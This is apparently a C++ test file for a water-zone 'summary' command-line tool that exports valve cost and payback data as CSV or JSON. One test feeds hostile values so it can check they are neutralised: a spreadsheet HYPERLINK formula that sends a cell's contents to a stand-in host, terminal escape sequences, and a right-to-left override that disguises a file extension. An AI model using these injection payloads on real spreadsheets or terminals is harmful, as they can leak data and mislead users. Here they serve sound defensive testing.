// halvern-cli summary as a utility runs it over many zones: the record of each project holds
// what its window shows, an unreadable project gets its error and the exit status 1, and the
// output does not depend on how many projects are read at once.
#ifdef HALVERN_CLI
#include "CliRunner.h"
#include "IoFixture.h"
#include "forms/TableLayouts.h"
#include "io/TextCodec.h"

#include <gmock/gmock.h>

#include <clocale>
#include <cstdio>
#include <sys/wait.h>
#include <unistd.h>

using namespace halvern;
using namespace halvern::test;
using ::testing::ElementsAreArray;
using ::testing::HasSubstr;

namespace {

TCliRun RunSummary(std::vector<std::string> args, const std::string& locale = "C") {
    args.insert(args.begin(), "summary");
    return RunCli(args, {.Locale = locale});
}

// RFC 4180: records end with CR LF, quoted fields may hold commas, quotes and line breaks.
std::vector<std::vector<std::string>> ParseCsv(const std::string& text) {
    std::vector<std::vector<std::string>> records;
    std::vector<std::string> record;
    std::string field;
    bool quoted = false;
    for (std::size_t i = 0; i < text.size(); ++i) {
        const char c = text[i];
        if (quoted) {
            if (c == '"' && i + 1 < text.size() && text[i + 1] == '"') {
                field += '"';
                ++i;
            } else if (c == '"') {
                quoted = false;
            } else {
                field += c;
            }
        } else if (c == '"') {
            quoted = true;
        } else if (c == ',') {
            record.push_back(field);
            field.clear();
        } else if (c == '\r' && i + 1 < text.size() && text[i + 1] == '\n') {
            record.push_back(field);
            records.push_back(record);
            record.clear();
            field.clear();
            ++i;
        } else {
            field += c;
        }
    }
    return records;
}

std::string WithoutAny(std::string text, const std::string& characters) {
    std::erase_if(text, [&](char c) { return characters.find(c) != std::string::npos; });
    return text;
}

// The record the window gives for a project read with "Read data", column by column, every
// number as it is shown with its group separators (and the currency) taken out.
std::vector<std::pair<std::string, std::string>> WindowRecord(const std::string& file,
                                                              const std::string& given) {
    TShownForm form;
    form.Dialogs.Clear();
    form.Read(file);
    TMainForm& f = *form;
    std::vector<std::pair<std::string, std::string>> record{
        {"file", given},
        {"zone_name", f.ZoneNameEdit.Text()},
        {"analysis_reference", f.ZoneRefEdit.Text()},
        {"water_supply_system", f.WaterSupplySystemEdit.Text()},
    };
    const std::pair<const char*, std::array<const TLabel*, 3>> volumes[] = {
        {"current", {&f.CurrentDepLabel, &f.CurrentIndepLabel, &f.CurrentTotLabel}},
        {"fixed_outlet", {&f.FixedDepLabel, &f.FixedIndepLabel, &f.FixedTotLabel}},
        {"time_modulated", {&f.TimeDepLabel, &f.TimeIndepLabel, &f.TimeTotLabel}},
        {"flow_modulated", {&f.FlowDepLabel, &f.FlowIndepLabel, &f.FlowTotLabel}},
    };
    for (const auto& [key, labels] : volumes) {
        record.emplace_back(std::string(key) + "_dependent_m3", labels[0]->Caption);
        record.emplace_back(std::string(key) + "_independent_m3", labels[1]->Caption);
        record.emplace_back(std::string(key) + "_total_m3", labels[2]->Caption);
    }
    using namespace CostSummaryLayout;
    const TMarkStringGrid& costs = f.CostSummaryGrid;
    record.emplace_back("current_inflow_m3a", WithoutAny(costs.Cell(InflowCol, CurrentRow), ","));
    const char* const measures[] = {"inflow_m3a", "loss_saving_m3a",        "consumption_saving_m3a",
                                    "saving_m3a", "purchase_saving_ra",     "income_change_ra",
                                    "saving_ra",  "implementation_costs_r", "payback_months"};
    const std::pair<const char*, int> valves[] = {
        {"fixed_outlet", FixedRow}, {"time_modulated", TimeRow}, {"flow_modulated", FlowRow}};
    for (const auto& [key, row] : valves)
        for (int col = InflowCol; col <= PaybackCol; ++col)
            record.emplace_back(std::string(key) + "_" + measures[col - InflowCol],
                                WithoutAny(costs.Cell(col, row), col == ImplementationCol ? ", R" : ","));
    record.emplace_back("fixed_outlet_warning", f.FixedWarnLabel.Caption);
    record.emplace_back("time_modulated_warning", f.TimeWarnLabel.Caption);
    record.emplace_back("flow_modulated_warning", f.FlowWarnLabel.Caption);
    std::string messages;
    for (const std::string& text : form.Dialogs.Texts())
        messages += (messages.empty() ? "" : "\n\n") + text;
    record.emplace_back("messages", messages);
    record.emplace_back("error", "");
    return record;
}

std::vector<std::string> Names(const std::vector<std::pair<std::string, std::string>>& record) {
    std::vector<std::string> names;
    for (const auto& [name, value] : record)
        names.push_back(name);
    return names;
}

class SummaryCli : public ::testing::Test {
protected:
    TScratchDir dir;
    std::string neverPays = TestData("golden/n1-low-never-pays.pru");
    std::string missing = dir.File("no-such-zone.pru");
};

TEST_F(SummaryCli, CsvRecordsHoldWhatTheWindowShowsAndAnUnreadableProjectItsError) {
    const TCliRun run = RunSummary({"--csv", neverPays, missing});
    EXPECT_EQ(run.ExitCode, 1);
    const auto records = ParseCsv(run.Out);
    ASSERT_EQ(records.size(), 3u) << run.Out;

    const auto window = WindowRecord(neverPays, neverPays);
    EXPECT_THAT(records[0], ElementsAreArray(Names(window)));
    ASSERT_EQ(records[1].size(), window.size());
    for (std::size_t c = 0; c < window.size(); ++c)
        EXPECT_EQ(records[1][c], window[c].second) << window[c].first;
    // The zone this project is kept for: a valve that pays back and two that never do.
    const auto column = [&](const std::string& name) {
        const auto names = Names(window);
        return records[1]
                      [static_cast<std::size_t>(std::find(names.begin(), names.end(), name) - names.begin())];
    };
    EXPECT_EQ(column("fixed_outlet_payback_months"), "320.0");
    EXPECT_EQ(column("time_modulated_payback_months"), "Never");
    EXPECT_EQ(column("flow_modulated_payback_months"), "Never");

    // The unreadable project: its name, the window's message with the system's reason, and
    // nothing else.
    ASSERT_EQ(records[2].size(), window.size());
    EXPECT_EQ(records[2].front(), missing);
    EXPECT_EQ(records[2].back(), "Cannot open file " + missing + ": No such file or directory");
    for (std::size_t c = 1; c + 1 < records[2].size(); ++c)
        EXPECT_EQ(records[2][c], "") << window[c].first;
    EXPECT_THAT(run.Err, HasSubstr(missing + ": error: Cannot open file " + missing));
}

// Texts from a project or a file name reach a spreadsheet or a terminal: never as a formula,
// never as control sequences; numbers stay numbers.
TEST_F(SummaryCli, CsvTextsAreNeitherFormulasNorControlSequences) {
    TProjectFileData d = RichProject();
    d.Values.ZoneName = "=HYPERLINK(\"http://x.example/?\"&A1,\"Zone\")";
    d.Values.ZoneRef = "\x1B]0;owned\x07\u009B2J\u202Egpj.exe";
    d.Values.WaterSupplySystem = "-2+3";
    d.Values.ReportNum = "@SUM(1)";
    const std::string file = dir.File("+zone\x1B[2J.pru");
    WriteBytes(file, EncodeFileText(FormatProjectFile(d)));
    const TCliRun run = RunSummary({"--csv", file, neverPays});
    EXPECT_EQ(run.ExitCode, 0) << run.Err;
    for (const char control : {'\x1B', '\x07'})
        EXPECT_EQ(run.Out.find(control), std::string::npos);
    for (const char* invisible : {"\u009B", "\u202E"})
        EXPECT_EQ(run.Out.find(invisible), std::string::npos) << invisible;
    const auto records = ParseCsv(run.Out);
    ASSERT_EQ(records.size(), 3u) << run.Out;
    const auto& names = records[0];
    const auto field = [&](std::size_t record, const std::string& name) {
        return records[record]
                      [static_cast<std::size_t>(std::find(names.begin(), names.end(), name) - names.begin())];
    };
    EXPECT_EQ(field(1, "file"), dir.File("+zone\\x1b[2J.pru")); // a full name, starting with "/"
    EXPECT_EQ(field(1, "zone_name"), "'" + d.Values.ZoneName);
    EXPECT_EQ(field(1, "analysis_reference"), "\\x1b]0;owned\\x07\\u009b2J\\u202egpj.exe");
    EXPECT_EQ(field(1, "water_supply_system"), "'-2+3");
    // Numbers, negative ones too, are as the window shows them (without separators).
    const auto window = WindowRecord(neverPays, neverPays);
    bool negative = false;
    for (std::size_t c = 0; c < window.size(); ++c) {
        EXPECT_EQ(records[2][c], window[c].second) << window[c].first;
        negative = negative || window[c].second.starts_with("-");
    }
    EXPECT_TRUE(negative) << "the project kept for this shows a negative number";
}

TEST_F(SummaryCli, JsonLinesCarryTheSameValuesNumbersAsNumbers) {
    const TCliRun run = RunSummary({"--json", neverPays, missing});
    EXPECT_EQ(run.ExitCode, 1);
    ASSERT_EQ(std::count(run.Out.begin(), run.Out.end(), '\n'), 2) << run.Out;
    const std::string first = run.Out.substr(0, run.Out.find('\n'));
    const std::string second = run.Out.substr(first.size() + 1);

    for (const auto& [name, value] : WindowRecord(neverPays, neverPays)) {
        if (name == "file" || name == "error" || name == "messages") continue;
        const bool text = name == "zone_name" || name == "analysis_reference" ||
                          name == "water_supply_system" || name.ends_with("_warning") || value == "Never";
        const std::string expected = value.empty() && !text ? "null" : text ? "\"" + value + "\"" : value;
        EXPECT_THAT(first, HasSubstr("\"" + name + "\":" + expected + ",")) << name;
    }
    EXPECT_THAT(first, HasSubstr("\"file\":\"" + neverPays + "\""));
    EXPECT_THAT(first, HasSubstr("\"messages\":[],\"error\":null}"));
    EXPECT_THAT(second, HasSubstr("\"current_dependent_m3\":null,"));
    EXPECT_THAT(second,
                HasSubstr("\"error\":\"Cannot open file " + missing + ": No such file or directory\"}"));
}

TEST_F(SummaryCli, OutputIsTheSameWhateverTheNumberOfProjectsAtOnce) {
    std::vector<std::string> files;
    for (const char* name :
         {"azp-unsettled", "flow-target-overflow", "flow-target-unreachable", "hourly-mode",
          "n1-low-never-pays", "negative-critical", "quarter-hour", "time-warning-ties"})
        files.push_back(TestData(std::string("golden/") + name + ".pru"));
    files.push_back(missing);
    files.push_back(TestData("../../examples/demo-zone.pru"));
    for (const char* format : {"--csv", "--json"}) {
        std::vector<std::string> args{format, "-j", "1"};
        args.insert(args.end(), files.begin(), files.end());
        const TCliRun one = RunSummary(args);
        args[2] = "4";
        const TCliRun four = RunSummary(args);
        EXPECT_EQ(one.ExitCode, 1);
        EXPECT_EQ(four.ExitCode, 1);
        EXPECT_EQ(one.Out, four.Out) << format;
        EXPECT_EQ(one.Err, four.Err) << format;
    }
}

TEST_F(SummaryCli, NumbersArePlainDecimalsInAnyLocale) {
    // A locale that groups with "." and writes the currency after the amount: the record
    // is the same as in the C locale, since the window's separators are taken out.
    const std::string saved = std::setlocale(LC_ALL, nullptr);
    const bool installed = std::setlocale(LC_ALL, "de_DE.UTF-8") != nullptr;
    std::setlocale(LC_ALL, saved.c_str());
    if (!installed) GTEST_SKIP() << "de_DE.UTF-8 not installed";
    const TCliRun c = RunSummary({neverPays});
    const TCliRun german = RunSummary({neverPays}, "de_DE.UTF-8");
    EXPECT_EQ(c.ExitCode, 0);
    EXPECT_EQ(german.Out, c.Out);
}

// Where the system gives no thread (a user at the limit of their processes), the projects are
// read one after the other: every record, as with threads.
TEST_F(SummaryCli, WithoutThreadsEveryProjectIsStillRead) {
    if (::geteuid() != 0) GTEST_SKIP() << "needs the superuser to run as a user held to one process";
    const std::vector<std::string> files = {neverPays, TestData("golden/quarter-hour.pru"), neverPays};
    std::vector<std::string> limited = {"summary", "--csv", "-j", "4"};
    limited.insert(limited.end(), files.begin(), files.end());
    const TCliRun run =
        RunCli(limited, {.RunUnder = {"env", "ASAN_OPTIONS=detect_leaks=0", "prlimit", "--nproc=1", "setpriv",
                                      "--reuid=4545", "--regid=4545", "--clear-groups"}});
    EXPECT_EQ(run.ExitCode, 0) << run.Err;
    std::vector<std::string> args = {"--csv", "-j", "1"};
    args.insert(args.end(), files.begin(), files.end());
    EXPECT_EQ(run.Out, RunSummary(args).Out);
    EXPECT_EQ(ParseCsv(run.Out).size(), 4u);
}

TEST_F(SummaryCli, WrongUsageIsRefusedWithStatusTwo) {
    for (const std::vector<std::string>& args :
         std::vector<std::vector<std::string>>{{},
                                               {"--csv", "--json", neverPays},
                                               {"-j", "0", neverPays},
                                               {"-j", "two", neverPays},
                                               {"-j"},
                                               {"--tsv", neverPays}}) {
        const TCliRun run = RunSummary(args);
        EXPECT_EQ(run.ExitCode, 2) << ::testing::PrintToString(args);
        EXPECT_EQ(run.Out, "");
        EXPECT_THAT(run.Err, HasSubstr("Usage: halvern-cli summary"));
    }
}

} // namespace
#endif
